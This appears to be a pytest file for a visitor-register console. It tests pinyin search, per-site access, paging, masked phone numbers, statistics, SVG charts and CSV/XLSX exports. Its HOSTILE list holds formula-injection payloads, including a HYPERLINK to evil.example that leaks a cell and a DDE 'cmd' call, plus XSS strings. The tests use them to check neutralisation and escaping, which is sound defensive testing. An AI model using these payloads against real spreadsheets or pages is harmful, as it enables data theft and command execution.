"""The console's data side against the real server on SQLite and PostgreSQL: visits pushed as
devices push them, folded by the server's Projector, then searched (sync.server.console.register),
opened (detail), counted (stats), drawn (charts) and exported (exports) within a user's sites.
"""

from __future__ import annotations

import base64
import csv
import io
import time
import xml.etree.ElementTree as ET
from datetime import date, datetime, timedelta

import openpyxl
import pytest
import requests
import sqlalchemy as sa

from kiosk.core.events import new_id
from kiosk.core.tokens import badge_number, new_badge_id, new_visit_id
from kiosk.store.log import visit_from_json
from sync import protocol
from sync.server import store
from sync.server.console import charts, detail, exports, register, search_index, stats
from sync.server.console.register import Search
from sync.server.db import Database, register_terms, register_words, visits
from sync.server.db import register as register_table
from sync.server.errors import Invalid
from tests.console_data import NEEDLE, generate
from tests.server_fixtures import db_url, pg_url, server  # noqa: F401

# Names a visitor may type (devices and the server refuse control characters in them: a tab or CR
# at the start is checked on the exports directly).
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>"]
SIGNATURE = [base64.b64encode(bytes([10, 200, 60, 150, 120, 210])).decode(), base64.b64encode(bytes([200, 40])).decode()]


class Device:
    def __init__(self, server, site: str, name: str):
        self.site, self.name, self.seq = site, name, 0
        self.session = requests.Session()
        self.session.headers.update(server.headers(server.device(site, name, "reception")))
        self.url = server.url + protocol.API + "/events"

    def push(self, kind: str, visit_id: str, data: dict, ts: int) -> None:
        self.seq += 1
        event = {"event_id": new_id(), "site": self.site, "device": self.name, "seq": self.seq, "ts": ts,
                 "kind": kind, "visit_id": visit_id, "data": data}
        response = self.session.post(self.url, json={"events": [event]}, timeout=30)
        assert response.status_code < 300 and not response.json()["refused"], response.text

    def visit(self, name: str, ts: int, company: str = "华为", host: str = "李四", department: str = "研发部",
              phone: str = "13812345678", out_after_min: int | None = 45, rating: int | None = None,
              visitor_type: str = "guest") -> tuple[str, str]:
        visit_id, badge_id = new_visit_id(), new_badge_id()
        self.push("signed_in", visit_id, {
            "visitor": {"name": name, "company": company, "phone": phone, "purpose": "面试"},
            "host": {"host_id": "h1", "name": host, "department": department}, "lang": "zh_CN",
            "visitor_type": visitor_type, "answers": {"safety_briefing": "yes"},
            "agreement": {"version": "2026-03", "lang": "zh_CN", "signature": SIGNATURE}}, ts)
        self.push("badge_issued", visit_id, {"badge_id": badge_id, "issued_at": ts, "expires_at": ts + 12 * 3600_000}, ts)
        if rating is not None:
            self.push("rated", visit_id, {"rating": rating}, ts + 60_000)
        if out_after_min is not None:
            self.push("signed_out", visit_id, {"by": "exit"}, ts + out_after_min * 60_000)
        return visit_id, badge_id


def _now() -> int:
    return time.time_ns() // 1_000_000


@pytest.fixture
def lobby(server, db_url):
    """Two sites' visits, pushed by their reception desks: (database, {name: (site, visit, badge)})."""
    hq, branch = Device(server, "hq", "desk"), Device(server, "branch", "desk")
    base = _now() - 10 * 86_400_000
    seen = {NEEDLE: ("hq", *hq.visit(NEEDLE, base + 3_600_000, rating=5))}
    seen["赵四"] = ("hq", *hq.visit("赵四", base + 7_200_000, company="腾讯", host="王五", department="市场部", rating=3))
    seen["John Smith"] = ("hq", *hq.visit("John Smith", base + 86_400_000, company="Acme", visitor_type="contractor"))
    seen["张三丰"] = ("branch", *branch.visit("张三丰", base + 2 * 86_400_000, out_after_min=None))
    for n, name in enumerate(HOSTILE):
        seen[name] = ("hq", *hq.visit(name, base + (3 + n) * 86_400_000, company=name, host=name))
    db = Database(db_url)
    yield db, seen
    db.close()


@pytest.fixture(params=["lead", "walk"])
def drive(request, monkeypatch):
    """Each search both ways: led by its narrowest filter's index, and walking the visits newest
    first (what a filter matching more than DRIVE_LIMIT keys does over a big register)."""
    monkeypatch.setattr(register, "DRIVE_LIMIT", 10**9 if request.param == "lead" else 0)


def names(page: register.Page) -> list[str]:
    return [row["name"] for row in page.rows]


def test_a_visitor_is_found_by_chinese_pinyin_and_initials_newest_first(lobby, drive):
    db, _ = lobby
    for typed in ("zs", "ZS", "Ｚｓ"):  # 赵四 is zs too (Zhao Si)
        assert names(register.search(db, None, Search(name=typed))) == ["张三丰", "赵四", NEEDLE], typed
    for typed in ("zhangs", "zhangsan", "张三", "张", "张s"):
        assert names(register.search(db, None, Search(name=typed))) == ["张三丰", NEEDLE], typed
    assert names(register.search(db, None, Search(name="三"))) == ["张三丰", NEEDLE]  # a given name as written
    assert names(register.search(db, None, Search(name="丰"))) == ["张三丰"]
    assert names(register.search(db, None, Search(name="san"))) == []  # a later syllable: not the start
    assert names(register.search(db, None, Search(name="smith"))) == ["John Smith"]
    assert names(register.search(db, None, Search(name="zsf"))) == ["张三丰"]
    assert names(register.search(db, None, Search(name="qq"))) == []


def test_company_host_badge_dates_and_site_narrow_the_register(lobby, drive):
    db, seen = lobby
    assert names(register.search(db, None, Search(company="tx"))) == ["赵四"]
    assert names(register.search(db, None, Search(company="腾讯", name="zs"))) == ["赵四"]
    assert names(register.search(db, None, Search(company="腾讯", name="zhangs"))) == []
    assert names(register.search(db, None, Search(host="ww"))) == ["赵四"]
    assert set(names(register.search(db, None, Search(host="lisi")))) == {NEEDLE, "John Smith", "张三丰"}
    site, _, badge = seen[NEEDLE]
    assert names(register.search(db, None, Search(badge=badge_number(badge).lower()))) == [NEEDLE]
    with pytest.raises(Invalid, match="badge number"):
        register.search(db, None, Search(badge="K7QF"))
    day = register.search(db, None, Search(name="zhangs")).rows[-1]["signed_in_at"]
    assert names(register.search(db, None, Search(since_ms=day, until_ms=day + 1))) == [NEEDLE]
    assert names(register.search(db, None, Search(name="zhangs", site="branch"))) == ["张三丰"]


def test_a_user_sees_only_their_sites_and_nothing_of_the_others(lobby, drive):
    db, seen = lobby
    assert names(register.search(db, ["hq"], Search(name="zhangs"))) == [NEEDLE]
    assert names(register.search(db, ["hq"], Search(name="zhangs", site="branch"))) == []
    assert register.search(db, [], Search()).rows == []
    branch_site, branch_visit, _ = seen["张三丰"]
    assert detail.visit_detail(db, ["hq"], branch_site, branch_visit) is None
    assert detail.visit_detail(db, ["branch"], branch_site, branch_visit) is not None
    assert all(row["site"] == "hq" for row in register.search(db, ["hq"], Search(), limit=500).rows)


def test_pages_follow_each_other_without_gaps_or_repeats(lobby, drive):
    db, _ = lobby
    everyone = register.search(db, None, Search(), limit=500).rows
    assert len(everyone) == 4 + len(HOSTILE)
    times = [row["signed_in_at"] for row in everyone]
    assert times == sorted(times, reverse=True)
    paged, after = [], None
    while True:
        page = register.search(db, None, Search(), after=after, limit=3)
        paged += page.rows
        if page.next is None:
            break
        after = page.next
    assert [r["visit_id"] for r in paged] == [r["visit_id"] for r in everyone]
    for garbage in ("garbage", "1~hq", "9" * 30 + "~hq~X", "１~hq~X"):
        with pytest.raises(Invalid):
            register.search(db, None, Search(), after=garbage)


def test_a_visit_opens_with_its_history_signature_and_masked_phone(lobby):
    db, seen = lobby
    site, visit_id, _ = seen[NEEDLE]
    found = detail.visit_detail(db, ["hq"], site, visit_id)
    assert found.visit.visitor["name"] == NEEDLE
    assert found.phone == "138****5678"
    assert [e.kind for e in found.history] == ["signed_in", "badge_issued", "rated", "signed_out"]
    assert {e.device for e in found.history} == {"desk"}
    listed = dict(found.history[0].details)
    assert listed["visitor.phone"] == "138****5678"
    assert "13812345678" not in repr(found.history)
    assert listed["agreement.version"] == "2026-03" and listed["answers.safety_briefing"] == "yes"
    assert not any("signature" in key for key, _ in found.history[0].details)
    assert found.agreement_version == "2026-03"
    svg = ET.fromstring(found.signature_svg)
    paths = svg.findall(".//{http://www.w3.org/2000/svg}path")
    assert [p.get("d") for p in paths] == ["M20 55 L120 105 L240 45", "M400 215 L400 215"]
    assert detail.visit_detail(db, None, site, new_visit_id()) is None


def test_a_signature_of_junk_draws_nothing_and_never_raises():
    for junk in (None, "text", [1, 2], ["!!!"], [{"x": 1}], ["QQ=="]):
        assert detail.signature_svg(junk) == ""


def test_the_index_follows_a_withdrawn_visit_and_a_refolded_one(lobby, server):
    db, seen = lobby
    site, visit_id, _ = seen["赵四"]
    admin = requests.Session()
    admin.headers.update(server.headers(server.admin))
    events = store.visit_events(db, site, visit_id)
    for event in events:
        response = admin.post(f"{server.url}{protocol.API}/events/{event.event_id}/tombstone",
                              json={"reason": "test"}, timeout=30)
        assert response.status_code < 300, response.text
    assert names(register.search(db, None, Search(name="zs"))) == ["张三丰", NEEDLE]
    assert names(register.search(db, None, Search(name="赵"))) == []
    assert detail.visit_detail(db, None, site, visit_id) is None
    with db.read() as conn:
        assert conn.execute(sa.select(sa.func.count()).select_from(register_terms)
                            .where(register_terms.c.visit_id == visit_id)).scalar() == 0
        # Its company, no other visit's, left the company words too: a visitor's company is
        # personal data, not to outlive the visit in the index.
        assert conn.execute(sa.select(sa.func.count()).select_from(register_words)
                            .where(register_words.c.value == "腾讯")).scalar() == 0
    assert names(register.search(db, None, Search(company="tx"))) == []


def test_statistics_count_what_was_pushed(lobby):
    db, _ = lobby
    today = date.today()
    counted = stats.statistics(db, None, today - timedelta(days=30), today)
    assert counted.total == 4 + len(HOSTILE)
    assert len(counted.per_day) == 31 and sum(n for _, n in counted.per_day) == counted.total
    assert sum(n for _, n in counted.per_week) == sum(n for _, n in counted.per_month) == counted.total
    assert dict(counted.by_site) == {"hq": 3 + len(HOSTILE), "branch": 1}
    assert dict(counted.by_type)["contractor"] == 1
    assert dict(counted.ratings) == {"1": 0, "2": 0, "3": 1, "4": 0, "5": 1} and counted.average_rating == 4
    assert counted.average_stay_minutes == pytest.approx(45)
    assert sum(n for _, n in counted.by_hour) == counted.total
    hq_only = stats.statistics(db, ["hq"], today - timedelta(days=30), today)
    assert dict(hq_only.by_site) == {"hq": 3 + len(HOSTILE)}
    # Each visit on the day and in the hour of its local sign-in time (PostgreSQL rounded a
    # NUMERIC cast, moving visits after :30 to the next hour and after noon to the next day).
    with db.read() as conn:
        signed_in = [datetime.fromtimestamp(at / 1000) for (at,) in conn.execute(sa.select(register_table.c.at))]
    assert {h: n for h, n in counted.by_hour if n} == {f"{h:02d}": sum(t.hour == h for t in signed_in)
                                                        for h in {t.hour for t in signed_in}}
    assert {d: n for d, n in counted.per_day if n} == {d: sum(t.date().isoformat() == d for t in signed_in)
                                                        for d in {t.date().isoformat() for t in signed_in}}


def test_charts_draw_every_series_and_escape_labels(lobby):
    db, _ = lobby
    today = date.today()
    counted = stats.statistics(db, None, today - timedelta(days=30), today)
    for svg in (charts.bar_chart("按被访人", counted.by_host), charts.line_chart("每日", counted.per_day),
                charts.column_chart("高峰时段", counted.by_hour)):
        tree = ET.fromstring(svg)  # well-formed: every label escaped
        assert tree.tag == "{http://www.w3.org/2000/svg}svg"
        assert "<script>" not in svg and "<img" not in svg
    bars = ET.fromstring(charts.bar_chart("按被访人", counted.by_host))
    drawn = [r for r in bars.iter("{http://www.w3.org/2000/svg}rect") if r.get("height") != bars.get("height")]
    assert len(drawn) == len(counted.by_host)


def test_exports_neutralise_formulas_and_read_back(lobby):
    db, _ = lobby
    rows = list(exports.register_rows(db, ["hq"], Search()))
    assert len(rows) == 3 + len(HOSTILE)
    text = b"".join(exports.csv_stream(exports.REGISTER_COLUMNS, rows)).decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read[0] == list(exports.REGISTER_COLUMNS)
    _check_cells([cell for row in read[1:] for cell in row])
    by_name = {row[3]: row for row in read[1:]}
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in by_name
    book_bytes = b"".join(exports.xlsx_stream([("登记簿", exports.REGISTER_COLUMNS, rows)]))
    book = openpyxl.load_workbook(io.BytesIO(book_bytes))
    sheet = book["登记簿"]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in cells)
    _check_cells([c.value for c in cells if isinstance(c.value, str)])
    assert {row[3].value for row in sheet.iter_rows(min_row=2)} >= {NEEDLE, "'@SUM(A1:A9)", "'-2+3"}


def test_a_tab_or_carriage_return_first_is_neutralised_and_numbers_stay_numbers():
    rows = [["\tTAB", "\rCR", "=1+1", -5, 3.5, None, "安全"]]
    text = b"".join(exports.csv_stream(["a", "b", "c", "d", "e", "f", "g"], rows)).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text, newline="")))[1] == ["'\tTAB", "'\rCR", "'=1+1", "-5", "3.5", "", "安全"]
    book = openpyxl.load_workbook(io.BytesIO(b"".join(exports.xlsx_stream([("=evil", ["=h"], rows)]))))
    sheet = book.worksheets[0]
    # XML reads a lone CR back as a line feed; what matters is the apostrophe before it.
    assert [c.value for c in sheet[2]] == ["'\tTAB", "'\nCR", "'=1+1", -5, 3.5, None, "安全"]
    assert sheet["A1"].value == "'=h" and all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def _check_cells(values: list[str]) -> None:
    assert values
    for value in values:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_statistics_export_as_csv_and_xlsx(lobby):
    db, _ = lobby
    today = date.today()
    counted = stats.statistics(db, None, today - timedelta(days=30), today)
    sheets = [("按被访人", ("label", "visits"), counted.by_host), ("每日", ("label", "visits"), counted.per_day)]
    book = openpyxl.load_workbook(io.BytesIO(b"".join(exports.xlsx_stream(sheets))))
    assert book.sheetnames == ["按被访人", "每日"]
    assert sum(row[1].value for row in book["每日"].iter_rows(min_row=2)) == counted.total
    hosts = [row[0].value for row in book["按被访人"].iter_rows(min_row=2)]
    _check_cells(hosts)


def test_generated_visits_are_what_the_projector_would_write(db_url):
    """tests/console_data writes rows straight into the tables: they must be the projector's."""
    db = Database(db_url)
    try:
        generate(db, 60, days=5, now_ms=_now())
        with db.read() as conn:
            rows = conn.execute(sa.select(register_table)).all()
            docs = {(r.site, r.visit_id): r.doc for r in conn.execute(sa.select(visits.c.site, visits.c.visit_id,
                                                                                 visits.c.doc))}
            terms = conn.execute(sa.select(register_terms.c.site, register_terms.c.visit_id, register_terms.c.field,
                                           register_terms.c.term, register_terms.c.at)).all()
        assert len(rows) == 60
        for row in rows:
            assert dict(row._mapping) == search_index.register_row(visit_from_json(docs[row.site, row.visit_id]))
        at = {(row.site, row.visit_id): row.at for row in rows}
        expected = {(t["site"], t["visit_id"], t["field"], t["term"], t["at"])
                    for key, doc in docs.items() for t in search_index.term_rows(visit_from_json(doc), at[key])}
        assert set(map(tuple, terms)) == expected
        assert NEEDLE in names(register.search(db, None, Search(name="zs")))
    finally:
        db.close()


def test_generated_visits_keep_the_statistics_honest(db_url):
    db = Database(db_url)
    try:
        now = _now()
        generate(db, 900, days=90, now_ms=now)
        until = datetime.fromtimestamp(now / 1000).date()
        counted = stats.statistics(db, None, until - timedelta(days=120), until)
        assert counted.total == 900
        assert len(counted.per_month) >= 3 and sum(n for _, n in counted.per_week) == 900
        assert dict(counted.by_site) == {"hq": 450, "branch": 450}
        assert sum(n for _, n in counted.ratings) == 300
    finally:
        db.close()
